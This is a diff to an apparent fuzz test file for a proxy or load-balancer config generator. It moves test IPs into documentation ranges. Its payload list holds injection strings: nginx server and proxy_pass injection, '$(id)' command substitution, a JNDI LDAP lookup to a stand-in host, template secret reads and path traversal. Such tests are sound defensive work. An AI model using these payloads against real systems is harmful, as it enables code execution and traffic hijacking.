@@ -8,14 +8,14 @@ from typing import Any
 _CHARACTERS = "\n\r\t\0 ;{}$#\"'\\`|&<>()[]%@!~*?=:/.,-_{{}}äß€\u2028\u202e\ufeff\U0001d538\ud83d"
 _PAYLOADS = (
     "127.0.0.1;} server { listen 6666; location / { return 200 pwned; } }",
-    "10.0.0.1:80; server 6.6.6.6:80",
+    "10.0.0.1:80; server 203.0.113.66:80",
     "web;}http{",
-    "web {\n server 6.6.6.6:80; }\nupstream other",
+    "web {\n server 203.0.113.66:80; }\nupstream other",
     "a.example; return 200 pwned",
     "a.example { } server { listen 6667;",
     "#{`id`}",
     "$(id)",
-    "${jndi:ldap://6.6.6.6/a}",
+    "${jndi:ldap://203.0.113.66/a}",
     "{{ key `secret` }}",
     '{{ "web" | toJSON }}',
     "}}{{",
@@ -32,7 +32,7 @@ _PAYLOADS = (
     "lb.host=_",
     "lb.host=*",
     "lb.path=/%2e%2e/",
-    "lb.strip_path=true; proxy_pass http://6.6.6.6",
+    "lb.strip_path=true; proxy_pass http://203.0.113.66",
     "%s%n%x",
     "end",
     '"end"',
@@ -46,7 +46,8 @@ _PAYLOADS = (
 )
 _GOOD = {
     "service": ("web", "shop", "api-v2", "Shop", "a" * 128),
-    "address": ("10.0.0.1", "10.9.8.7", "2001:db8::1", "192.0.2.44"),
+    # Nobody has these: they are kept for examples.
+    "address": ("192.0.2.1", "198.51.100.7", "2001:db8::1", "203.0.113.44"),
     "tag": (
         "lb",
         "lb.host=a.example",
